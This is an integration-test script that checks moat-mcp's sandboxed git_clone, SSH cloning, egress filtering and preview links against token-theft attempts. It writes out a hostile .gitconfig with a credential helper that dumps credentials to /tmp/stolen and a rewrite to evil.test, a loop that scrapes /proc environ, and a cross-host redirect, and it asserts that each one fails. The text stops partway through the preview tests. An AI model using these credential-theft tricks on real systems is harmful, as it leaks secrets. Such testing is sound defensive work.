"""Network tools through moat-mcp, driven by the official Python MCP SDK.

Usage: python network_client.py MOAT_MCP_BINARY WORK_DIR

Starts a Git "host" on this machine's loopback (HTTPS with a test CA, the
dumb HTTP protocol, Basic auth with a token), tells moat-mcp through its
test-only variables that git.test is that address, and checks: git_clone
with a token (the token in no output, log, config or environment), branch
and commit, refusals with reasons, the egress log in list_sandboxes, and
preview links (cookie after the token, refused without it or for another
port). The operator grants network `filtered` and the host extra.test
(MOAT_ALLOW_NETWORK, MOAT_ALLOW_HOSTS); asking for more is refused.
Attacks of issue 15 (items 3, 7 and 8) are tried and must fail: hosts and
networks beyond the grants; a user's ~/.gitconfig, /proc/*/environ and a
redirect to another host against git_clone's token; moat cookies and host
secrets reaching a sandbox's server, and one link's page using another's.
Git over SSH (issue 19, item 1) goes to a real sshd in a network
namespace of the test's (ssh_clones). Nothing leaves this machine. Exits
non-zero with the reason when a check fails.
"""

import asyncio
import base64
import contextlib
import http.client
import http.cookiejar
import http.server
import ipaddress
import os
import socket
import ssl
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request

from mcp import ClientSession, StdioServerParameters
from mcp.client.stdio import stdio_client

TOKEN = "ghp_moatTestToken0123456789abcdefXYZ"
USER = "moat-bot"
SEEN = []  # every tool result's text, to check that the token is in none


def run(*args, cwd=None):
    return subprocess.run(args, cwd=cwd, check=True, capture_output=True, text=True).stdout.strip()


def make_ca_and_cert(work):
    ca_key, ca = os.path.join(work, "ca.key"), os.path.join(work, "ca.pem")
    key, csr, cert = (os.path.join(work, n) for n in ("git.key", "git.csr", "git.pem"))
    ext = os.path.join(work, "san.ext")
    with open(ext, "w") as f:
        f.write("subjectAltName=DNS:git.test,DNS:other.test\nbasicConstraints=CA:FALSE\n")
    run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", ca_key, "-out", ca, "-days", "2",
        "-subj", "/CN=moat test CA")
    run("openssl", "req", "-newkey", "rsa:2048", "-nodes", "-keyout", key, "-out", csr, "-subj", "/CN=git.test")
    run("openssl", "x509", "-req", "-in", csr, "-CA", ca, "-CAkey", ca_key, "-CAcreateserial", "-out", cert,
        "-days", "2", "-extfile", ext)
    return ca, cert, key


def make_repository(work):
    """A bare repository served by the dumb HTTP protocol: main with two
    commits, branch feature with one more. Returns (first, main, feature)."""
    src = os.path.join(work, "src")
    os.makedirs(src)
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@t", "-c", "init.defaultBranch=main"]
    run(*git, "init", "-q", cwd=src)
    with open(os.path.join(src, "README"), "w") as f:
        f.write("hello from git\n")
    run(*git, "add", "README", cwd=src)
    run(*git, "commit", "-q", "-m", "first", cwd=src)
    first = run("git", "rev-parse", "HEAD", cwd=src)
    with open(os.path.join(src, "README"), "a") as f:
        f.write("second line\n")
    run(*git, "commit", "-q", "-am", "second", cwd=src)
    main = run("git", "rev-parse", "HEAD", cwd=src)
    run(*git, "checkout", "-q", "-b", "feature", cwd=src)
    with open(os.path.join(src, "FEATURE"), "w") as f:
        f.write("feature\n")
    run(*git, "add", "FEATURE", cwd=src)
    run(*git, "commit", "-q", "-m", "feature", cwd=src)
    feature = run("git", "rev-parse", "HEAD", cwd=src)
    run(*git, "checkout", "-q", "main", cwd=src)
    served = os.path.join(work, "served")
    os.makedirs(served)
    run("git", "clone", "-q", "--bare", src, os.path.join(served, "repo.git"))
    run("git", "update-server-info", cwd=os.path.join(served, "repo.git"))
    return served, first, main, feature


class GitHost(http.server.SimpleHTTPRequestHandler):
    """Static files behind Basic auth: what a private repository needs."""

    expected = "Basic " + base64.b64encode(f"{USER}:{TOKEN}".encode()).decode()
    authorized = 0
    requests = []  # (Host header, Authorization header) of every request
    hanging = threading.Event()  # a clone waits on /hang.git
    release = threading.Event()  # /hang.git answers (404) at last

    def do_GET(self):
        GitHost.requests.append((self.headers.get("Host", ""), self.headers.get("Authorization", "")))
        if self.path.startswith("/hang.git/"):
            # A server that never answers: the clone waits until it is
            # killed or cancelled.
            GitHost.hanging.set()
            GitHost.release.wait(120)
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if self.path.startswith("/moved.git/"):
            # A repository that moved to another host: git follows, and
            # must not take the token along.
            port = self.server.server_address[1]
            self.send_response(301)
            self.send_header("Location", f"https://other.test:{port}/repo.git/" + self.path[len("/moved.git/"):])
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if self.headers.get("Authorization") != self.expected:
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="git.test"')
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        GitHost.authorized += 1
        super().do_GET()

    def log_message(self, *args):
        pass


def serve_git(served, cert, key):
    handler = lambda *a, **kw: GitHost(*a, directory=served, **kw)  # noqa: E731
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def is_error(result):
    value = getattr(result, "isError", None)
    return bool(getattr(result, "is_error", None) if value is None else value)


def structured(result):
    value = getattr(result, "structuredContent", None)
    return getattr(result, "structured_content", None) if value is None else value


async def call(session, name, args, expect_error=False):
    result = await session.call_tool(name, args)
    text = "".join(getattr(block, "text", "") for block in result.content)
    SEEN.append(text)
    if is_error(result) != expect_error:
        raise AssertionError(f"{name} {args.get('url', '')}: isError={is_error(result)}: {text}")
    return text if expect_error else structured(result)


def fetch(url, opener=None, cookie=None):
    """GET url; returns (status, body)."""
    request = urllib.request.Request(url, headers={"Cookie": cookie} if cookie else {})
    try:
        with (opener or urllib.request.build_opener()).open(request, timeout=30) as response:
            return response.status, response.read().decode(errors="replace")
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode(errors="replace")


async def beyond_the_grants(session):
    """Issue 15, item 3: the operator grants filtered and extra.test."""
    message = await call(session, "create_sandbox", {"network": "open"}, expect_error=True)
    assert "MOAT_ALLOW_NETWORK" in message and "filtered" in message, message
    for hosts in (["evil.test"], ["extra.test", "attacker.example"], ["sub.extra.test"]):
        message = await call(session, "create_sandbox", {"network": "filtered", "allow_hosts": hosts},
                             expect_error=True)
        assert "MOAT_ALLOW_HOSTS" in message and hosts[-1] in message, message
    listed = await call(session, "list_sandboxes", {})
    assert listed["sandboxes"] == [], f"a refused call made a sandbox: {listed}"


async def git_token_attacks(session, url, port, main):
    """Issue 15, item 7: a process of the sandbox's user tries to get the
    token: through ~/.gitconfig (insteadOf to another host, a proxy,
    sslVerify off, its own credential helper), by reading every process's
    environment and command line while the clone runs, and through a
    redirect to another host. The clone succeeds; the token goes nowhere."""
    hostile = "\n".join([
        "[url \"https://evil.test:%d/\"]" % port, f"\tinsteadOf = https://git.test:{port}/",
        "[http]", "\tproxy = http://127.0.0.1:9", "\tsslVerify = false",
        "[credential]", "\thelper = \"!f() { cat >> /tmp/stolen; }; f\"",
        "[core]", "\tsshCommand = touch /tmp/ran", ""])
    await call(session, "write_file", {"path": ".gitconfig", "content": hostile})
    await call(session, "run_command", {"cmd": "mkdir -p ~/.config/git && cp ~/.gitconfig ~/.config/git/config"})
    # The pattern is in a file, so that no watcher's command line holds it.
    await call(session, "write_file", {"path": "/tmp/pattern", "content": TOKEN[:12] + "\n"})
    await call(session, "run_command", {
        "cmd": "for i in $(seq 3000); do cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null "
               "| tr '\\0' '\\n' | grep -a -F -f /tmp/pattern >> /tmp/seen; sleep 0.01; done",
        "background": True})
    cloned = await call(session, "git_clone", {"url": url, "path": "/workspace/guarded", "username": USER,
                                               "token": TOKEN})
    assert cloned == {"path": "/workspace/guarded", "commit": main}, cloned
    out = await call(session, "run_command", {
        "cmd": "stat -c %U /workspace/guarded /workspace/guarded/README /workspace/guarded/.git/config; "
               "cat /tmp/stolen /tmp/ran 2>&1; cat /tmp/seen 2>/dev/null | wc -l; "
               "ls /run | grep -c moat-git; ls /var/tmp | grep -c moat-clone"})
    lines = out["stdout"].splitlines()
    assert lines[:3] == ["user", "user", "user"], f"the checkout is not the user's: {out}"
    assert "No such file" in out["stdout"] and TOKEN not in out["stdout"], f"~/.gitconfig was honoured: {out}"
    assert lines[-3:] == ["0", "0", "0"], f"the token was seen by a user process, or files stayed: {out}"
    await call(session, "run_command", {"cmd": "rm -rf ~/.gitconfig ~/.config/git; pkill -u user -f 'seq 3000'"})

    # A clone cancelled with its call while git waits on the server is
    # stopped: killed (no shell trap runs), and moat removes the token's
    # directory and the staging directory itself. (Before, the clone went on
    # to its timeout, and a killed one left the token in the sandbox's /run.)
    hung = await hanging_call(session, "git_clone", {
        "url": f"https://git.test:{port}/hang.git", "path": "hung", "username": USER, "token": TOKEN})
    show = "ls /run | grep -c moat-git; ls /var/tmp | grep -c moat-clone; pgrep -c git-remote"
    listed = await call(session, "run_command", {"cmd": show})
    assert listed["stdout"].split() == ["1", "1", "1"], f"the clone does not wait as it should: {listed}"
    await cancel(hung)
    for _ in range(100):
        listed = await call(session, "run_command", {"cmd": show})
        if listed["stdout"].split() == ["0", "0", "0"]:
            break
        await asyncio.sleep(0.1)
    else:
        raise AssertionError(f"a cancelled clone left git, its token or its staging in the sandbox: {listed}")
    GitHost.release.set()

    # task_start from a Git URL, cancelled the same way: the clone stops and
    # the task's sandbox is destroyed. (Before, the clone went on.)
    ids = lambda listed: sorted(box["sandbox_id"] for box in listed["sandboxes"])  # noqa: E731
    before = ids(await call(session, "list_sandboxes", {}))
    starting = await hanging_call(session, "task_start", {
        "source": f"https://git.test:{port}/hang.git", "username": USER, "token": TOKEN})
    assert len(ids(await call(session, "list_sandboxes", {}))) == len(before) + 1, "no sandbox for the task"
    await cancel(starting)
    for _ in range(100):
        after = ids(await call(session, "list_sandboxes", {}))
        if after == before:
            break
        await asyncio.sleep(0.1)
    else:
        raise AssertionError(f"a cancelled task_start left its sandbox: {after} (before: {before})")
    GitHost.release.set()

    # git.test/moved.git redirects to other.test: git follows, asks for
    # credentials there, and gets none.
    before = len(GitHost.requests)
    message = await call(session, "git_clone", {"url": f"https://git.test:{port}/moved.git", "path": "moved",
                                                "username": USER, "token": TOKEN}, expect_error=True)
    assert TOKEN not in message, message
    to_other = [(host, auth) for host, auth in GitHost.requests[before:] if host.startswith("other.test")]
    assert to_other, f"the redirect was not followed: {GitHost.requests[before:]}"
    assert all(not auth for _, auth in to_other), f"credentials went to another host: {to_other}"


async def hanging_call(session, name, args):
    """Starts a call whose clone reaches /hang.git, which never answers, and
    returns it (a future) once the Git host has the request."""
    GitHost.hanging.clear()
    GitHost.release.clear()
    running = asyncio.ensure_future(session.call_tool(name, args))
    for _ in range(300):
        if GitHost.hanging.is_set():
            return running
        await asyncio.sleep(0.1)
    raise AssertionError(f"{name}'s clone never reached the Git host")


async def cancel(running):
    """Cancels a call started with asyncio (SDK 2.x sends
    notifications/cancelled)."""
    running.cancel()
    with contextlib.suppress(asyncio.CancelledError):
        await running


SSH_NS, SSH_HOST_IP, SSH_PEER_IP = "moatssh", "10.203.0.1", "10.203.0.2"


class SshHost:
    """A real OpenSSH server in a network namespace of its own, reached over
    a veth pair: the test's SSH Git host. It lets in one key, as root, and
    logs every command a client asks it to run (ForceCommand) before
    running it."""

    def __init__(self, work, served):
        self.dir = os.path.join(work, "sshd")
        # The operator's shared root (MOAT_ROOTS): the key, and a project.
        self.shared = os.path.join(work, "shared")
        self.keys = os.path.join(self.shared, "keys")
        os.makedirs(self.dir)
        os.makedirs(self.keys)
        self.host_key = os.path.join(self.dir, "host_key")
        self.client_key = os.path.join(self.keys, "id_ed25519")
        self.commands = os.path.join(self.dir, "commands")
        run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "git-ssh.test", "-f", self.host_key)
        run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "moat-test", "-f", self.client_key)
        os.chmod(self.client_key, 0o600)
        with open(os.path.join(self.dir, "authorized_keys"), "w") as f:
            f.write(open(self.client_key + ".pub").read())
        self.known_hosts = os.path.join(self.dir, "known_hosts")
        with open(self.known_hosts, "w") as f:
            f.write("git-ssh.test " + open(self.host_key + ".pub").read())
        logger = os.path.join(self.dir, "log-command")
        with open(logger, "w") as f:
            f.write(f'#!/bin/sh\nprintf "%s\\n" "$SSH_ORIGINAL_COMMAND" >> {self.commands}\n'
                    'exec /bin/sh -c "$SSH_ORIGINAL_COMMAND"\n')
        os.chmod(logger, 0o755)
        config = os.path.join(self.dir, "sshd_config")
        with open(config, "w") as f:
            f.write("\n".join([
                f"ListenAddress {SSH_PEER_IP}", f"HostKey {self.host_key}", "PidFile none",
                f"AuthorizedKeysFile {self.dir}/authorized_keys", "StrictModes no", "UsePAM no",
                "PasswordAuthentication no", "KbdInteractiveAuthentication no", "PermitRootLogin prohibit-password",
                "AllowUsers root", f"ForceCommand {logger}", "LogLevel VERBOSE", ""]))
        self.url = f"ssh://root@git-ssh.test{served}/repo.git"
        self.scp_url = f"root@git-ssh.test:{served}/repo.git"
        subprocess.run(["ip", "netns", "del", SSH_NS], capture_output=True)
        run("ip", "netns", "add", SSH_NS)
        try:
            run("ip", "link", "add", "moatssh0", "type", "veth", "peer", "name", "moatssh1")
            run("ip", "link", "set", "moatssh1", "netns", SSH_NS)
            run("ip", "addr", "add", f"{SSH_HOST_IP}/30", "dev", "moatssh0")
            run("ip", "link", "set", "moatssh0", "up")
            for command in (["ip", "addr", "add", f"{SSH_PEER_IP}/30", "dev", "moatssh1"],
                            ["ip", "link", "set", "moatssh1", "up"], ["ip", "link", "set", "lo", "up"]):
                run("ip", "netns", "exec", SSH_NS, *command)
            os.makedirs("/run/sshd", exist_ok=True)  # sshd's privilege separation directory
            self.log = open(os.path.join(self.dir, "sshd.log"), "w")
            self.process = subprocess.Popen(["ip", "netns", "exec", SSH_NS, "/usr/sbin/sshd", "-D", "-e", "-f", config],
                                            stdout=self.log, stderr=subprocess.STDOUT)
            for _ in range(100):
                try:
                    socket.create_connection((SSH_PEER_IP, 22), timeout=1).close()
                    break
                except OSError:
                    time.sleep(0.1)
            else:
                raise AssertionError(f"sshd did not start: {open(self.log.name).read()}")
        except BaseException:
            self.stop()
            raise

    def ran(self):
        return open(self.commands).read().splitlines() if os.path.exists(self.commands) else []

    def stop(self):
        if getattr(self, "process", None):
            self.process.terminate()
            self.process.wait()
        subprocess.run(["ip", "netns", "del", SSH_NS], capture_output=True)
        subprocess.run(["ip", "link", "del", "moatssh0"], capture_output=True)


async def ssh_clones(session, ssh, first, main, feature):
    """Issue 19, item 1 (SSH): git_clone and task_start with an SSH URL and
    a key the operator allows (MOAT_ALLOW_SSH_KEY=1, the key in MOAT_ROOTS).
    The sandbox has no network: the host's ssh connects and relays. The key
    never enters the sandbox or any output; the server only ever runs
    git-upload-pack (nothing in the sandbox can push with the key); host
    keys are checked; keys outside ~/.ssh and MOAT_ROOTS are refused."""
    box = await call(session, "create_sandbox", {"name": "ssh-offline"})
    assert box["network"] == "none", box
    sid = box["sandbox_id"]
    cloned = await call(session, "git_clone", {"url": ssh.url, "path": "/workspace/over-ssh",
                                               "ssh_key_path": ssh.client_key, "sandbox_id": sid})
    assert cloned == {"path": "/workspace/over-ssh", "commit": main}, cloned
    out = await call(session, "run_command", {
        "cmd": "cat /workspace/over-ssh/README; git -C /workspace/over-ssh remote get-url origin; "
               "stat -c %U /workspace/over-ssh/README", "sandbox_id": sid})
    assert out["stdout"] == f"hello from git\nsecond line\n{ssh.url}\nuser\n", out
    pinned = await call(session, "git_clone", {"url": ssh.scp_url, "path": "pinned-ssh", "branch": "feature",
                                               "commit": first, "ssh_key_path": ssh.client_key, "sandbox_id": sid})
    assert pinned == {"path": "/home/user/pinned-ssh", "commit": first}, pinned
    # The key's text is nowhere in the sandbox, and no relay is left.
    secret_line = open(ssh.client_key).read().splitlines()[2]
    await call(session, "write_file", {"path": "/tmp/keyline", "content": secret_line + "\n", "sandbox_id": sid})
    out = await call(session, "run_command", {
        "cmd": "grep -rlF -f /tmp/keyline /tmp /var/tmp /run /home /workspace 2>/dev/null "
               "| grep -v '^/tmp/keyline$'; pgrep -c -x cat; ls /run | grep -c moat-git", "sandbox_id": sid})
    assert out["stdout"].split() == ["0", "0"], f"the key or the relay stayed in the sandbox: {out}"
    # A host whose key is not the pinned one (the same server under
    # another name) is refused by ssh on the host.
    message = await call(session, "git_clone", {"url": ssh.url.replace("git-ssh.test", "rogue-ssh.test"),
                                                "path": "rogue", "ssh_key_path": ssh.client_key, "sandbox_id": sid},
                         expect_error=True)
    assert "Host key verification failed" in message, message
    # Keys from anywhere else on the host, tokens with SSH, SSH without a key.
    for path, why in ((ssh.host_key, "beneath ~/.ssh or a directory in MOAT_ROOTS"),
                      ("/etc/ssh/ssh_host_ed25519_key", "beneath ~/.ssh or a directory in MOAT_ROOTS"),
                      (ssh.keys + "/../../sshd/host_key", "`..`"),
                      (ssh.client_key + ".pub", "not an SSH private key")):
        message = await call(session, "git_clone", {"url": ssh.url, "path": "x", "ssh_key_path": path,
                                                    "sandbox_id": sid}, expect_error=True)
        assert why in message, (path, message)
    message = await call(session, "git_clone", {"url": ssh.url, "path": "x", "sandbox_id": sid}, expect_error=True)
    assert "needs ssh_key_path" in message and "MOAT_ALLOW_SSH_KEY" in message, message
    message = await call(session, "git_clone", {"url": ssh.url, "token": TOKEN, "ssh_key_path": ssh.client_key,
                                                "sandbox_id": sid}, expect_error=True)
    assert "apply to https URLs" in message, message
    message = await call(session, "git_clone", {"url": "ssh://git@evil.test/x/y.git", "ssh_key_path": ssh.client_key,
                                                "sandbox_id": sid}, expect_error=True)
    assert "not a Git host" in message, message
    # The host's ssh is outside the sandbox's filter: a Git host's other
    # ports are the operator's to open (MOAT_ALLOW_HOSTS host:port).
    message = await call(session, "git_clone", {"url": ssh.url.replace("git-ssh.test", "git-ssh.test:25"),
                                                "path": "x", "ssh_key_path": ssh.client_key, "sandbox_id": sid},
                         expect_error=True)
    assert "port 22 of a Git host" in message and "git-ssh.test:25" in message, message
    # A task from an SSH URL: the cloned commit is its baseline.
    task = await call(session, "task_start", {"source": ssh.scp_url, "branch": "feature",
                                              "ssh_key_path": ssh.client_key})
    assert (task["commit"], task["files"]) == (feature, 2), task
    out = await call(session, "run_command", {"cmd": "cd /workspace && echo more >> FEATURE",
                                              "sandbox_id": task["sandbox_id"]})
    diff = await call(session, "task_diff", {"task_id": task["task_id"]})
    assert "+more" in diff["diff"] and diff["summary"]["files_changed"] == 1, diff
    await call(session, "task_finish", {"task_id": task["task_id"]})
    ran = ssh.ran()
    assert ran and all(c == f"git-upload-pack '{ssh.url.split('git-ssh.test', 1)[1]}'" or
                       c == f"git-upload-pack '{ssh.scp_url.split(':', 1)[1]}'" for c in ran), ran
    await call(session, "destroy_sandbox", {"sandbox_id": sid})
    return secret_line


GO_HELLO = """package main

import "fmt"

func main() { fmt.Println("hello from go") }
"""


async def runtimes(session, shared):
    """Issue 19, item 2: the default image has Go and Rust (Debian's), and
    create_sandbox and task_start take a runtime, whose toolchain's version
    they report and whose registries a filtered sandbox reaches (instead of
    Python's and Node's)."""
    go = await call(session, "create_sandbox", {"name": "go-box", "runtime": "go", "network": "filtered"})
    assert go["runtime"] == "go" and go["runtime_version"].startswith("go version go1."), go
    gid = go["sandbox_id"]
    await call(session, "write_file", {"path": "hello/main.go", "content": GO_HELLO, "sandbox_id": gid})
    out = await call(session, "run_command", {
        "cmd": "cd hello && go mod init example.com/hello 2>/dev/null && go vet . && go run .",
        "sandbox_id": gid, "timeout": 600})
    assert (out["stdout"], out["exit_code"]) == ("hello from go\n", 0), out
    listed = await call(session, "list_sandboxes", {})
    mine = next(s for s in listed["sandboxes"] if s["sandbox_id"] == gid)
    assert (mine["runtime"], mine["runtime_version"]) == ("go", go["runtime_version"]), mine
    hosts = set(mine["allowed_hosts"])
    assert {"proxy.golang.org", "sum.golang.org"} <= hosts and "pypi.org" not in hosts, hosts
    out = await call(session, "run_command", {"cmd": "curl -sS http://pypi.org/simple/", "sandbox_id": gid})
    assert "pypi.org is not an allowed host" in out["stdout"] + out["stderr"], out
    await call(session, "destroy_sandbox", {"sandbox_id": gid})

    rust = await call(session, "create_sandbox", {"name": "rust-box", "runtime": "rust"})
    assert rust["runtime_version"].startswith("rustc 1.") and ", cargo 1." in rust["runtime_version"], rust
    out = await call(session, "run_command", {
        "cmd": "cargo new -q --vcs none hello && cd hello && cargo run -q", "sandbox_id": rust["sandbox_id"],
        "timeout": 600})
    assert (out["stdout"], out["exit_code"]) == ("Hello, world!\n", 0), out
    await call(session, "destroy_sandbox", {"sandbox_id": rust["sandbox_id"]})
    for runtime, prefix in (("python", "Python 3."), ("node", "node v"), ("shell", "GNU bash")):
        box = await call(session, "create_sandbox", {"runtime": runtime})
        assert box["runtime_version"].startswith(prefix), box
        await call(session, "destroy_sandbox", {"sandbox_id": box["sandbox_id"]})
    message = await call(session, "create_sandbox", {"runtime": "cobol"}, expect_error=True)
    assert "runtime" in message and "rust" in message, message

    # A project whose files say shell; the caller says python.
    project = os.path.join(shared, "project")
    os.makedirs(project)
    with open(os.path.join(project, "run.sh"), "w") as f:
        f.write("echo hi\n")
    detected = await call(session, "task_start", {"source": project})
    assert detected["runtime"] == "shell" and detected["runtime_version"].startswith("GNU bash"), detected
    await call(session, "task_finish", {"task_id": detected["task_id"]})
    task = await call(session, "task_start", {"source": project, "runtime": "python"})
    assert task["runtime"] == "python" and task["runtime_version"].startswith("Python 3."), task
    await call(session, "task_finish", {"task_id": task["task_id"]})


async def checks(session, port, first, main, feature, ca_pem):
    await beyond_the_grants(session)
    box = await call(session, "create_sandbox", {
        "name": "net-test", "network": "filtered", "allow_hosts": ["extra.test"],
        "env": {"GIT_SSL_CAINFO": "/home/user/test-ca.pem"},
    })
    assert box["network"] == "filtered", box
    await call(session, "write_file", {"path": "test-ca.pem", "content": ca_pem})
    url = f"https://git.test:{port}/repo.git"

    cloned = await call(session, "git_clone", {"url": url, "username": USER, "token": TOKEN})
    assert cloned == {"path": "/workspace/repo", "commit": main}, cloned
    assert GitHost.authorized > 0, "the clone never sent the token"
    out = await call(session, "run_command", {"cmd": "cat /workspace/repo/README; git -C /workspace/repo config --list"})
    assert out["stdout"].startswith("hello from git\nsecond line\n"), out
    assert "credential" not in out["stdout"] and f"remote.origin.url={url}" in out["stdout"], out
    out = await call(session, "run_command", {"cmd": f"grep -rl '{TOKEN[:12]}' /workspace /home/user /tmp; env | grep -c MOAT_GIT"})
    assert out["stdout"].strip() == "0", f"the token or its variables stayed behind: {out}"

    pinned = await call(session, "git_clone", {
        "url": url, "path": "pinned", "branch": "feature", "commit": first, "username": USER, "token": TOKEN})
    assert pinned == {"path": "/home/user/pinned", "commit": first}, pinned
    branch = await call(session, "git_clone", {"url": url, "path": "/workspace/feat", "branch": "feature",
                                               "username": USER, "token": TOKEN})
    assert branch["commit"] == feature, branch
    await git_token_attacks(session, url, port, main)

    wrong = "ghp_wrongToken_9876543210"
    message = await call(session, "git_clone", {"url": url, "path": "w", "username": USER, "token": wrong},
                         expect_error=True)
    assert "git clone of" in message and wrong not in message, message
    message = await call(session, "git_clone", {"url": "https://evil.test/x/y.git"}, expect_error=True)
    assert "not a Git host" in message and "MOAT_GIT_HOSTS" in message, message
    message = await call(session, "git_clone", {"url": f"https://{USER}:{TOKEN}@git.test/repo.git"}, expect_error=True)
    assert "username and token" in message, message

    # Filtered egress from a shell: a host that is not allowed, explained.
    out = await call(session, "run_command", {"cmd": f"curl -sS http://evil.test:{port}/"})
    assert "evil.test is not an allowed host" in out["stdout"] and "MOAT_ALLOW_HOSTS" in out["stdout"], out
    listed = await call(session, "list_sandboxes", {})
    mine = next(s for s in listed["sandboxes"] if s["sandbox_id"] == box["sandbox_id"])
    assert {"git.test", "extra.test", "pypi.org", "registry.npmjs.org"} <= set(mine["allowed_hosts"]), mine
    decisions = {(d["host"], d["allowed"]) for d in mine["egress"]}
    assert ("git.test", True) in decisions and ("evil.test", False) in decisions, mine["egress"]

    await task_from_a_repository(session, url, first, main)

    # A sandbox without network cannot clone, and says how to get one that can.
    await call(session, "create_sandbox", {"name": "offline"})
    message = await call(session, "git_clone", {"url": url}, expect_error=True)
    assert "network" in message and "filtered" in message, message

    # Preview links: the token in the URL becomes a cookie; without it, or
    # with another port's, the link refuses.
    await call(session, "run_command", {
        "cmd": "mkdir -p site && echo '<h1>preview works</h1>' > site/index.html && "
               "python3 -m http.server 8000 --bind 127.0.0.1 --directory site",
        "background": True})
    link = await call(session, "preview_link", {"port": 8000})
    assert link["port"] == 8000 and link["token"] in link["url"] and own_loopback_site(link["url"]), link
    base = link["url"].split("?")[0]
    jar = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar()))
    for _ in range(100):
        status, body = fetch(link["url"], jar)
        if status == 200:
            break
        await asyncio.sleep(0.1)
    assert status == 200 and "preview works" in body, (status, body)
    status, body = fetch(base + "index.html", jar)
    assert status == 200 and "preview works" in body, "the cookie alone opens the link"
    status, body = fetch(base)
    assert status == 403 and "no token" in body, (status, body)
    other = await call(session, "preview_link", {"port": 8001})
    status, _ = fetch(other["url"].split("?")[0] + "?moat_token=" + link["token"])
    assert status == 403, "a token opens only its own port's link"
    message = await call(session, "preview_link", {"port": 0}, expect_error=True)
    assert "from 1 to 65535" in message, message
    await preview_attacks(session, link, other)


async def task_from_a_repository(session, url, first, main):
    """Issue 19, item 1: task_start from a Git URL clones into /workspace
    of a fresh sandbox (network filtered: the server's default is none),
    the cloned commit is the baseline, and task_diff / task_finish work as
    for a directory. The sandbox trusts the test server's CA through
    MOAT_CA_FILE alone. Refusals make no sandbox."""
    before = len((await call(session, "list_sandboxes", {}))["sandboxes"])
    task = await call(session, "task_start", {"source": url, "username": USER, "token": TOKEN})
    assert (task["commit"], task["workspace"], task["files"], task["runtime"]) == (main, "/workspace", 1, "shell"), task
    out = await call(session, "run_command", {
        "cmd": "cd /workspace && git log --format=%s && echo third >> README && echo new > added.txt && ls -A",
        "sandbox_id": task["sandbox_id"]})
    assert out["stdout"].split() == ["second", "first", ".git", "README", "added.txt"], out
    diff = await call(session, "task_diff", {"task_id": task["task_id"]})
    assert "+third" in diff["diff"] and "added.txt" in diff["diff"] and diff["summary"]["files_changed"] == 2, diff
    out = await call(session, "run_command", {"cmd": f"grep -rl '{TOKEN[:12]}' /workspace /home/user /tmp",
                                              "sandbox_id": task["sandbox_id"]})
    assert out["stdout"] == "", f"the token stayed behind: {out}"
    finished = await call(session, "task_finish", {"task_id": task["task_id"]})
    patch = open(finished["patch_path"]).read()
    assert "+third" in patch and "added.txt" in patch, patch

    pinned = await call(session, "task_start", {"source": url, "commit": first, "username": USER, "token": TOKEN})
    assert pinned["commit"] == first, pinned
    diff = await call(session, "task_diff", {"task_id": pinned["task_id"]})
    assert diff["diff"] == "" and diff["summary"]["files_changed"] == 0, diff
    await call(session, "task_finish", {"task_id": pinned["task_id"]})

    message = await call(session, "task_start", {"source": "https://evil.test/x/y.git"}, expect_error=True)
    assert "not a Git host" in message and "MOAT_GIT_HOSTS" in message, message
    message = await call(session, "task_start", {"source": url, "username": USER, "token": "ghp_wrong_0123456789"},
                         expect_error=True)
    assert "git clone of" in message and "ghp_wrong_0123456789" not in message, message
    message = await call(session, "task_start", {"source": "/tmp", "branch": "main"}, expect_error=True)
    assert "branch applies only to a source that is a Git URL" in message, message
    after = len((await call(session, "list_sandboxes", {}))["sandboxes"])
    assert after == before, f"a refused or failed task_start left a sandbox ({before} before, {after} after)"


ECHO_SERVER = """
import http.server
class Echo(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = str(self.headers).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
http.server.ThreadingHTTPServer(("127.0.0.1", 8002), Echo).serve_forever()
"""


def raw_get(url, headers):
    """GET with exactly these headers; returns (status, body)."""
    request = urllib.request.Request(url, headers=headers)
    try:
        with urllib.request.build_opener().open(request, timeout=30) as response:
            return response.status, response.read().decode(errors="replace")
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode(errors="replace")


def raw_get_headers(url, headers):
    """GET with exactly these headers, following no redirect; returns
    (status, response headers, body)."""
    parsed = urllib.parse.urlsplit(url)
    connection = http.client.HTTPConnection(parsed.hostname, parsed.port, timeout=30)
    target = parsed.path + ("?" + parsed.query if parsed.query else "")
    connection.request("GET", target or "/", headers=headers)
    response = connection.getresponse()
    body = response.read().decode(errors="replace")
    connection.close()
    return response.status, response.headers, body


def own_loopback_site(url):
    """Whether a preview URL names an address of the loopback network of
    its own: not 127.0.0.1, where the user's own web services are."""
    address = ipaddress.ip_address(urllib.parse.urlsplit(url).hostname)
    return url.startswith("http://") and address.is_loopback and str(address) != "127.0.0.1"


async def preview_attacks(session, first, second):
    """Issue 15, item 8: a sandbox's server sees the headers it is sent. It
    must see no moat_* cookie (no link's token), no X-Moat header and not
    moat-mcp's token; and a page of one link cannot use another."""
    await call(session, "write_file", {"path": "echo.py", "content": ECHO_SERVER})
    await call(session, "run_command", {"cmd": "python3 echo.py", "background": True})
    echo = await call(session, "preview_link", {"port": 8002})
    base = echo["url"].split("?")[0]
    host_port = base.split(":")[2].strip("/")
    # The token opens the link once, for a session cookie (answered before
    # anything reaches the sandbox).
    status, headers, _ = raw_get_headers(echo["url"], {})
    assert status == 303, (status, headers)
    echo_session = headers["Set-Cookie"].split(";")[0].split("=", 1)[1]
    assert echo_session != echo["token"], "the cookie is a session, not the token"
    status, headers, body = raw_get_headers(echo["url"], {})
    assert status == 403 and "opened already" in body, (status, body)
